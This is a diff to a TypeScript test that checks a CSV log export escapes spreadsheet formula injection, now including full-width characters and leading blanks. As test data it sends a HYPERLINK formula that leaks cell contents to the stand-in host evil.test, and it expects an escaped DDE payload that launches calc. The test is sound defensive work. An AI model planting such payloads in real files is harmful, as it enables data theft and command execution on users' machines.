@@ -4,12 +4,14 @@ import { parseCsv } from '../../modules/activity-logs/logs.test-support'
 import { buildTestApp, TEST_PASSWORD, type TestContext } from '../helpers'
 
 /**
- * OWASP CSV Injection, DECISIONS.md: a cell starting with = + - @ tab CR LF NUL is prefixed
- * with '. packages/shared/src/rules/csv.test.ts tables the rule; logs.export.test.ts checks seeded
+ * OWASP CSV Injection, DECISIONS.md: a cell starting with = + - @ tab CR LF NUL or the
+ * full-width ＝ ＋ － ＠, also after leading blanks, is prefixed with '. packages/shared/src/rules/csv.test.ts tables the rule; logs.export.test.ts checks seeded
  * rows. Here the values arrive the way an attacker would send them (a UI event's details, a
  * user's name) and leave through the real export.
  */
-const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '\0'] as const
+const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠'] as const
+/** Blanks a spreadsheet skips before it reads a formula. */
+const BLANKS = [' ', '   ', '\u00A0', '\u3000']
 const name = (c: string) => JSON.stringify(c)
 
 let t: TestContext
@@ -39,7 +41,8 @@ describe('through GET /api/logs/export.csv', () => {
   it('neutralises UI event details and user names that start with a formula character', async () => {
     const sales = await t.loginAs('sales')
     const sent: string[] = []
-    for (const c of STARTS) {
+    const starts = [...STARTS, ...BLANKS.map((b) => `${b}=`), ' ＠']
+    for (const c of starts) {
       const details = `${c}HYPERLINK("http://evil.test/?"&A1,"click")`
       const res = await t.app.inject({
         method: 'POST',
@@ -72,11 +75,13 @@ describe('through GET /api/logs/export.csv', () => {
     const rows = parseCsv(res.body).slice(1)
     const cells = rows.flat()
     for (const cell of cells) {
+      const firstNonBlank = cell.replace(/^[\s\u00A0\u3000]+/, '').charAt(0)
       expect(STARTS.includes(cell.charAt(0) as (typeof STARTS)[number]), JSON.stringify(cell)).toBe(false)
+      expect(STARTS.includes(firstNonBlank as (typeof STARTS)[number]), JSON.stringify(cell)).toBe(false)
     }
     // Every value sent is in the file, behind its guard.
     for (const details of sent) expect(cells).toContain(`'${details}`)
-    expect(sent.length).toBeGreaterThanOrEqual(7)
+    expect(sent.length).toBeGreaterThanOrEqual(starts.length - 1)
     for (const c of ['=', '+', '-', '@']) expect(cells).toContain(`'${c}cmd|' /C calc'!A0`)
   })
 })
